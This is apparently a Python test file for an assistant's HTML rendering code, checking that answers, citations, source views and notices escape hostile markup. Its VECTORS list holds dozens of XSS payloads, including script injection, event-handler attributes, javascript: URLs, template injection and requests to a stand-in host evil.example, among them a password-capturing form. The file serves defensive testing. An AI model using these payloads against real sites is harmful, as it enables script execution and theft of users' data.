import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser, LexborNode
from surface_fakes import HOSTILE, answer, cite, consult, document

from assistant.surfaces import render
from assistant.surfaces.render import (
    CITED_ID,
    MAX_SOURCE_CHARS,
    render_answer,
    render_documents,
    render_notice,
    render_progress,
    render_question,
    render_source,
    terminal_safe,
)
from assistant.values import (
    Answer,
    Citation,
    Consulted,
    Document,
    DocumentId,
    FileRecord,
    Heading,
    Span,
    Statement,
    Status,
    Verdict,
)

OURS = {
    "div": {"class", "dir"},
    "p": {"class", "dir"},
    "h2": {"class", "dir", "tabindex"},
    **{tag: {"class", "dir"} for tag in ("h3", "h4", "h5", "h6")},
    "span": {"class", "dir"},
    "bdi": set(),
    "a": {"class", "href", "title", "aria-label"},
    "ol": {"class"},
    "ul": set(),
    "li": {"class", "value"},
    "mark": {"class", "id"},
    "details": {"class"},
    "summary": set(),
}
HREF = re.compile(r"#(cite-\d+-\d+|read-\d+-\d+|doc-[A-Za-z0-9_.~%-]*|close)")
VECTORS = [
    HOSTILE,
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/?q=secret>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video poster=https://evil.example/x><source onerror=alert(1)>",
    "<audio src=https://evil.example/x>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "</div></p></article><h1>Spoofed</h1>",
    "</title></textarea></style></script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;&ampamp;&notin",
    "${alert(1)} ${constructor.constructor('alert(1)')()}",
    "{{constructor.constructor('alert(1)')()}} {{{value}}}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>txt.exe\u202c",
    "\u2028<script>\u2029alert(1)",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<mark id=cited-span>forged</mark>",
    "<a class=cite href=#cite-1-1>1</a>",
]

texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=60)
markup = st.lists(st.sampled_from(VECTORS) | texts, max_size=3).map(
    lambda parts: "\n".join(parts).replace("\0", "")
)


@st.composite
def documents_with_spans(draw):
    alphabet = st.sampled_from("ab <&>\"'\n\n\r\té漢א\u202e🙂")
    text = draw(st.text(alphabet, min_size=1, max_size=80)) + draw(markup)
    cut = st.tuples(st.integers(0, len(text)), st.integers(0, len(text)))
    pairs = draw(st.lists(cut.filter(lambda c: c[0] < c[1]), min_size=1, max_size=6))
    headings = draw(st.lists(cut.filter(lambda c: c[0] < c[1]), max_size=3))
    made = Document(
        DocumentId("a.txt"),
        "0" * 64,
        draw(markup),
        "text/plain",
        text,
        (),
        tuple(Heading(start, end, draw(st.integers(1, 7))) for start, end in sorted(headings)),
    )
    return made, [Span(made.document_id, *pair) for pair in pairs]


@st.composite
def answers(draw):
    n = draw(st.integers(0, 3))
    citations = tuple(
        Citation(
            k,
            DocumentId(draw(markup)),
            "0" * 64,
            draw(markup),
            0,
            9,
            draw(markup),
            draw(st.none() | st.integers(1, 9)),
            draw(st.none() | markup),
        )
        for k in range(1, n + 1)
    )
    statements = tuple(Statement(draw(markup), (c.number,), Verdict.SUPPORTED) for c in citations)
    consulted = tuple(
        Consulted(DocumentId("b"), draw(markup), 0, 9, draw(markup), 0.1, None, draw(markup))
        for _ in range(draw(st.integers(0, 4)))
    )
    reason = draw(st.none() | markup)
    return Answer(
        draw(markup),
        draw(markup),
        statements,
        citations,
        n == 0,
        reason,
        consulted,
        "x",
        0.5,
        {},
        1,
    )


def parse(html: str) -> LexborNode:
    return LexborHTMLParser(f"<!doctype html><body>{html}</body>").body


def assert_ours(html: str) -> LexborNode:
    """Assert that a page parses to our tags and attributes only, links being references."""
    body = parse(html)
    for node in body.css("*"):
        if node.tag == "body":
            assert not node.attributes
            continue
        assert set(node.attributes) <= OURS[node.tag], (node.tag, node.attributes)
        if "href" in node.attributes:
            assert HREF.fullmatch(node.attributes["href"])
    return body


def marked(body: LexborNode, kind: str) -> str:
    return "".join(node.text() for node in body.css(kind))


@given(documents_with_spans(), st.data())
def test_a_source_shows_the_document_itself_and_marks_exactly_the_clicked_span(made, data):
    source, spans = made
    strong = data.draw(st.sampled_from(spans))
    body = assert_ours(render_source(source, spans, strong))
    assert body.css_first(".text").text() == source.text
    assert marked(body, "mark.strong") == source.text[strong.start : strong.end]
    assert len(body.css(f"#{CITED_ID}")) == 1
    covered = {place for span in spans for place in range(span.start, span.end)}
    assert marked(body, "mark") == "".join(source.text[place] for place in sorted(covered))


@given(answers(), st.integers(1, 99))
def test_an_answer_leaves_no_unescaped_markup(made, turn):
    body = assert_ours(render_answer(made, turn))
    if not made.abstained:
        marks = body.css("a.cite")
        assert [node.attributes["title"] or "" for node in marks] == [
            c.quote for c in made.citations
        ]
        assert [node.text() for node in body.css(".statement")] == [s.text for s in made.statements]


@given(st.lists(st.tuples(markup, markup, st.none() | markup, st.sampled_from(Status))))
def test_a_list_of_documents_leaves_no_unescaped_markup(rows):
    records = [
        FileRecord(DocumentId(name), status, reason, title, 3, 9)
        for name, title, reason, status in rows
    ]
    body = assert_ours(render_documents(records))
    assert len(body.css("li")) == len(records)


@pytest.mark.parametrize("vector", VECTORS)
def test_an_attack_is_shown_as_the_text_it_is(vector):
    source = document("a.txt", f"Before. {vector} After.", title=vector)
    shown = vector.replace("\0", "\ufffd")
    made = answer(vector, cite(1, source, vector), consulted=(consult(source, vector),))
    assert shown in assert_ours(render_answer(made, 1)).css_first(".statement").text()
    abstained = answer(vector, consulted=(consult(source, vector),))
    assert_ours(render_answer(abstained, 1))
    span = Span(source.document_id, 8, 8 + len(vector))
    assert marked(assert_ours(render_source(source, (span,), span)), "mark.strong") == shown
    for html in (render_question(vector, 500), render_notice(vector), render_progress(vector)):
        assert assert_ours(html).text() == shown
    records = [FileRecord(DocumentId(vector), status, vector, vector, 1, 1) for status in Status]
    assert_ours(render_documents(records))


def test_lone_surrogates_of_file_names_become_replacement_characters():
    name = "caf\udce9.txt"
    html = render_documents([FileRecord(DocumentId(name), Status.INDEXED, None, name, 1, 1)])
    assert html.encode()
    assert "caf\ufffd.txt" in html


def test_a_span_across_paragraphs_and_a_heading_stays_whole():
    source = document("a.txt", "One.\n\nTwo\n\nThree.", "Two")
    span = Span(source.document_id, 2, 15)
    body = assert_ours(render_source(source, (span,), span))
    assert marked(body, "mark.strong") == "e.\n\nTwo\n\nThre"
    assert body.css_first("h3.heading").text() == "Two"
    assert [node.text() for node in body.css(".text > p")] == ["One.", "Three."]


def test_hard_wrapped_lines_stay_in_their_paragraph_and_long_lines_end_one():
    wrapped = document("a.txt", "one line\nand the next\n\nnew paragraph")
    assert len(parse(render_source(wrapped, (), None)).css(".text > p")) == 2
    long = document("b.txt", f"{'word ' * 40}\n{'term ' * 40}")
    assert len(parse(render_source(long, (), None)).css(".text > p")) == 2


def test_a_huge_document_is_shown_around_the_clicked_span_and_says_what_is_folded():
    source = document("a.txt", "a" * 300_000 + "needle" + "b" * 300_000)
    span = Span(source.document_id, 300_000, 300_006)
    body = parse(render_source(source, (span,), span))
    assert marked(body, "mark.strong") == "needle"
    assert len(body.css_first(".text").text()) == MAX_SOURCE_CHARS
    folded = [node.text() for node in body.css(".folded")]
    assert folded == [
        "200,003 characters before this part are folded.",
        "200,003 characters after this part are folded.",
    ]


def test_a_span_larger_than_the_window_is_shown_whole():
    source = document("a.txt", "a" * (3 * MAX_SOURCE_CHARS))
    span = Span(source.document_id, 10, 2 * MAX_SOURCE_CHARS)
    body = parse(render_source(source, (span,), span))
    assert len(marked(body, "mark.strong")) == 2 * MAX_SOURCE_CHARS - 10


def test_an_abstention_shows_its_reason_and_the_three_nearest_passages():
    source = document("a.txt", "A first. A second. A third. A fourth.")
    read = tuple(consult(source, f"A {n}.") for n in ("first", "second", "third", "fourth"))
    body = parse(render_answer(answer("?", consulted=read), 4))
    assert body.css_first(".abstention .reason").text() == "The documents do not say this."
    links = [node.attributes["href"] for node in body.css(".abstention a")]
    assert links == ["#read-4-1", "#read-4-2", "#read-4-3"]


def test_what_was_searched_for_is_shown_when_it_is_not_what_was_asked():
    asked = answer("Who was  Bismark?")
    reworded = replace(asked, query="Who was Bismarck?")
    body = parse(render_answer(reworded, 1))
    assert body.css_first(".searched").text() == "Searched for: Who was Bismarck?"
    assert "searched" not in render_answer(replace(asked, query="Who was Bismark?"), 1)


def test_marks_name_their_source_for_people_who_cannot_see_it():
    source = document("a.txt", "Some fact.", title="A title")
    body = parse(render_answer(answer("?", cite(1, source, "Some fact.")), 1))
    mark = body.css_first("a.cite")
    assert mark.attributes["aria-label"] == "Citation 1: A title. Opens the source."
    assert mark.attributes["title"] == "Some fact."


def test_more_documents_than_can_be_listed_are_counted(monkeypatch):
    monkeypatch.setattr(render, "MAX_LISTED", 2)
    records = [FileRecord(DocumentId(str(n)), Status.INDEXED, None, "", 1, 1) for n in range(5)]
    body = parse(render_documents(records))
    assert len(body.css("li")) == 2
    assert "3 more documents" in body.css_first(".folded").text()


@given(st.text())
def test_terminal_text_keeps_no_control_characters(text):
    safe = terminal_safe(text)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]", safe)
    safe.encode()


def test_terminal_text_keeps_everything_else():
    assert terminal_safe("a\tb\n\x1b[31mred\x1b[0m\r\x9b2J漢") == "a\tb\n[31mred[0m2J漢"
